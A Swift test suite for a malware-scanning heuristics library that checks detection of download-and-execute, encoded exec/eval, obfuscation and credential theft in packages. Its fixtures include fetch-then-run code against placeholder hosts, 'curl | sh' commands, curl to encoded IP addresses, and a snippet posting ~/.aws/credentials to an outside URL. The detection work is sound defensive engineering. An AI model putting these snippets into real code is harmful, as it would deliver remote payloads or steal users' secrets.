import Testing
@testable import CordonHeuristics

@Suite struct DownloadExecuteTests {
    @Test func pythonFetchWriteRunIsCritical() {
        let src = """
        import urllib.request
        import subprocess

        def update():
            data = urllib.request.urlopen("https://cdn.example.com/payload.sh").read()
            open("/tmp/p.sh", "wb").write(data)
            subprocess.call(["sh", "/tmp/p.sh"])
        """
        let fs = scanFile("pkg/updater.py", src)
        #expect(rules(fs) == ["download-execute"])
        #expect(fs.first?.severity == .critical)
        #expect(fs.first?.startLine == 5 && fs.first?.endLine == 7)
    }

    @Test func pythonExecOfResponseIsCritical() {
        let src = "import requests\n\nexec(requests.get('https://cdn.example.com/stage2.py').text)\n"
        let fs = scanFile("pkg/boot.py", src)
        #expect(rules(fs) == ["download-execute"])
        #expect(fs.first.map { ($0.startLine, $0.endLine) } ?? (0, 0) == (3, 3))
    }

    @Test func nodeHttpsGetThenChildProcessIsCritical() {
        let src = """
        const https = require('https');
        const fs = require('fs');
        https.get('https://cdn.example.com/bin', (res) => {
          res.pipe(fs.createWriteStream('/tmp/.x')).on('finish', () => {
            require('child_process').execSync('chmod +x /tmp/.x && /tmp/.x');
          });
        });
        """
        let fs = scanFile("index.js", src, eco: .npm)
        #expect(rules(fs) == ["download-execute"])
        #expect(fs.first?.severity == .critical)
        #expect(fs.first?.startLine == 3 && fs.first?.endLine == 5)
    }

    @Test func fetchWithoutExecutionIsClean() {
        let src = """
        import json
        import requests

        def latest_version(name):
            resp = requests.get(f"https://pypi.org/pypi/{name}/json", timeout=10)
            return json.loads(resp.text)["info"]["version"]
        """
        #expect(scanFile("pkg/version.py", src).isEmpty)
    }

    /// A syntax highlighter's word lists (pygments' PowerShell lexer: `curl` and `iex` among
    /// its aliases) fetch and run nothing; the same words in a command line still count.
    @Test func quotedWordListsAreData() {
        let lexer = """
            aliases_ = (
                'ac asnp cat cd cfs chdir clc clear clhy cli clp cls clv cnsn '
                'compare copy cp cpi cpp curl cvpa dbp del diff dir dnsn ebp echo epal '
                'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp '
                'trcm type wget where wjb write').split()
            """
        #expect(scanFile("pygments/lexers/shell.py", lexer).isEmpty)
        let command = "import os\n\nos.system('curl https://cdn.example.com/x.sh | sh')\n"
        #expect(rules(scanFile("pkg/setup_hook.py", command)) == ["download-execute"])
        let split = "import os\ncmd = 'curl https://cdn.example.com/x.sh'\nos.system(cmd + ' | sh')\n"
        #expect(rules(scanFile("pkg/setup_hook.py", split)) == ["download-execute"])
        // A command with no URL (curl takes a decimal address) is not a word list.
        let bare = """
            import subprocess
            _CMD = (
                'curl -fsSL 3325256724 -o cordon-helper'
            ).split()
            subprocess.run(_CMD); subprocess.run(['sh', 'cordon-helper'])
            """
        #expect(rules(scanFile("pkg/__init__.py", bare)) == ["download-execute"])
        let listed = "import os\nfor c in ('curl -fsSLo x 3325256724',\n          'sh x',):\n    os.system(c)\n"
        #expect(rules(scanFile("pkg/__init__.py", listed)) == ["download-execute"])
        let padded = "import os\nc = 'a b c d e curl 3325256724'\nos.system(c)\n"
        #expect(rules(scanFile("pkg/__init__.py", padded)) == ["download-execute"])
        let launched = "import os, subprocess\nc = ('nice curl 0xc6336414 0xc6336414 0xc6336414 0xc6336414').split()\nsubprocess.run(c)\nos.system('sh /tmp/x')\n"
        #expect(rules(scanFile("pkg/__init__.py", launched)) == ["download-execute"])
    }

    @Test func subprocessWithoutFetchIsClean() {
        let src = "import subprocess\n\ndef git_sha():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
        #expect(scanFile("pkg/vcs.py", src).isEmpty)
    }

    @Test func installDocsInReadmeAreNotCode() {
        let md = "Install with:\n\n    curl -sSL https://install.example.org | python3 -\n"
        #expect(!rules(scanFile("README.md", md)).contains("download-execute"))
    }
}

@Suite struct DecodeExecTests {
    @Test func base64ThenExecAcrossLinesIsHigh() {
        let src = """
        import base64
        _p = "aW1wb3J0IG9zOyBwcmludChvcy5nZXRjd2QoKSk="
        code = base64.b64decode(_p)
        exec(code)
        """
        let fs = scanFile("pkg/__init__.py", src)
        #expect(rules(fs) == ["decode-exec"])
        #expect(fs.first?.severity == .high)
        #expect(fs.first?.startLine == 3 && fs.first?.endLine == 4)
        #expect(fs.first?.evidence == "exec(code)")
    }

    @Test func zlibMarshalOneLinerIsHigh() {
        let src = "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x\\x9c...')))\n"
        let fs = scanFile("pkg/_core.py", src)
        #expect(rules(fs) == ["decode-exec"])
        #expect(fs.first?.startLine == 2)
    }

    @Test func javascriptBufferBase64EvalIsHigh() {
        let src = "const s = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(s, 'base64').toString());\n"
        let fs = scanFile("lib/index.js", src, eco: .npm)
        #expect(rules(fs) == ["decode-exec"])
        #expect(fs.first?.startLine == 2)
    }

    @Test func javascriptFromCharCodeFunctionIsHigh() {
        let src = "const body = String.fromCharCode(99, 111, 110, 115, 111, 108, 101);\nnew Function(body)();\n"
        let fs = scanFile("lib/run.js", src, eco: .npm)
        #expect(rules(fs) == ["decode-exec"])
        #expect(fs.first?.startLine == 1 && fs.first?.endLine == 2)
    }

    @Test func pythonChrJoinAndHexAreHigh() {
        let chr = "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 41]))\n"
        #expect(scanFile("a.py", chr).map(\.rule) == ["decode-exec"])
        let hex = "payload = bytes.fromhex('7072696e74283129')\neval(payload)\n"
        #expect(scanFile("b.py", hex).map(\.rule) == ["decode-exec"])
    }

    @Test func base64WithoutExecIsClean() {
        let src = """
        import base64

        def encode_image(raw):
            return base64.b64encode(raw).decode("ascii")

        def decode_image(text):
            return base64.b64decode(text)
        """
        #expect(scanFile("pkg/images.py", src).isEmpty)
    }

    @Test func regexExecAndUnrelatedEvalAreClean() {
        let js = "const m = /^(\\d+)$/.exec(atob(token));\nconst fn = function(a) { return a; };\n"
        #expect(scanFile("lib/parse.js", js, eco: .npm).isEmpty)
        let py = "import base64\nraw = base64.b64decode(blob)\nresult = ast.literal_eval(config_text)\n"
        #expect(scanFile("pkg/cfg.py", py).isEmpty)
    }
}

@Suite struct ObfuscationTests {
    static let b64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

    @Test func longHighEntropyLiteralIsMedium() {
        let blob = String(repeating: Self.b64Alphabet, count: 4)  // 256 chars, 6 bits/char
        let src = "# generated\n_BLOB = \"\(blob)\"\n"
        let fs = scanFile("pkg/_data.py", src)
        #expect(rules(fs) == ["obfuscation"])
        #expect(fs.first?.severity == .medium)
        #expect(fs.first?.startLine == 2)
        #expect(fs.first?.evidence.count == 160)
    }

    @Test func longLowEntropyLiteralIsClean() {
        let prose = "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et "
            + "dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex "
            + "ea commodo consequat."
        #expect(prose.count > 200)
        let src = "HELP = '\(prose)'\nPAD = '\(String(repeating: "=", count: 300))'\n"
        #expect(scanFile("pkg/text.py", src).isEmpty)
    }

    @Test func shortHighEntropyLiteralIsClean() {
        let src = "KEY = \"\(Self.b64Alphabet)\"\n"
        #expect(scanFile("pkg/alpha.py", src).isEmpty)
    }

    @Test func pyArmorMarkersAreHigh() {
        let src = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR')\n"
        let fs = scanFile("pkg/__init__.py", src)
        #expect(rules(fs) == ["obfuscation"])
        #expect(fs.count == 1)
        #expect(fs.first?.severity == .high)
        #expect(fs.first?.startLine == 1)
    }

    @Test func entropyHelperMatchesKnownValues() {
        #expect(shannonEntropy(Array("aaaa".utf8)) == 0)
        #expect(abs(shannonEntropy(Array("abcd".utf8)) - 2.0) < 1e-9)
        #expect(abs(shannonEntropy(Array(Self.b64Alphabet.utf8)) - 6.0) < 1e-9)
    }
}

/// Real code from popular, benign packages that an over-eager rule would call critical.
@Suite struct RealWorldNegativeTests {
    @Test func sixExecShimNextToUrllibMovesIsNotDownloadExecute() {
        var lines = ["MovedAttribute(\"urlopen\", \"urllib2\", \"urllib.request\"),"]
        lines += Array(repeating: "x = 1", count: 40)
        lines.append("    exec(\"\"\"exec _code_ in _globs_, _locs_\"\"\")")
        #expect(!rules(scanFile("six.py", lines.joined(separator: "\n") + "\n")).contains("download-execute"))
    }

    @Test func httpLibraryReadingNetrcIsNotCritical() {
        let src = "import socket\nimport urllib3\nNETRC_FILES = ('.netrc', '_netrc')\ndef get_netrc_auth(url):\n    return None\n"
        #expect(scanFile("requests/utils.py", src).allSatisfy { $0.severity < .critical })
    }

    @Test func cookiesInProseIsNotABrowserStore() {
        #expect(scanFile("requests/cookies.py", "\"\"\"Compatibility code to be able to use session.cookies to support dict operations.\"\"\"\n").isEmpty)
    }

    @Test func metadataProseIsNotCode() {
        #expect(scanFile("requests-2.19.0.dist-info/METADATA", "Name: requests\n\n- ``.netrc`` support; uses requests.post( internally\n")
            .allSatisfy { $0.rule == "shady-link" })
    }

    @Test func fetchAndRunCloseTogetherIsStillCritical() {
        let src = "import urllib.request, subprocess\npath = urllib.request.urlretrieve('http://203.0.113.9/x')[0]\nsubprocess.run(['sh', path])\n"
        #expect(scanFile("pkg/boot.py", src).contains { $0.rule == "download-execute" && $0.severity == .critical })
    }

    @Test func credentialsPlusUploadIsCritical() {
        let src = "import os, requests\ndata = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://example.invalid/c', data=data)\n"
        #expect(scanFile("pkg/x.py", src).contains { $0.rule == "credential-access" && $0.severity == .critical })
    }
}

extension RealWorldNegativeTests {
    /// werkzeug's debugger console: a method named fetch() near the console's exec.
    @Test func fetchMethodIsNotAFetch() {
        let src = "class ThreadedStream:\n    def fetch() -> str:\n        return ''\n\ndef run(code):\n    output = ThreadedStream.fetch()\n    exec(code, {})\n"
        #expect(!rules(scanFile("werkzeug/debug/console.py", src)).contains("download-execute"))
    }

    @Test func javascriptFetchThenEvalIsCritical() {
        let src = "fetch('https://203.0.113.7/p.js')\n  .then(r => r.text())\n  .then(t => eval(t));\n"
        #expect(scanFile("index.js", src).contains { $0.rule == "download-execute" && $0.severity == .critical })
    }
}
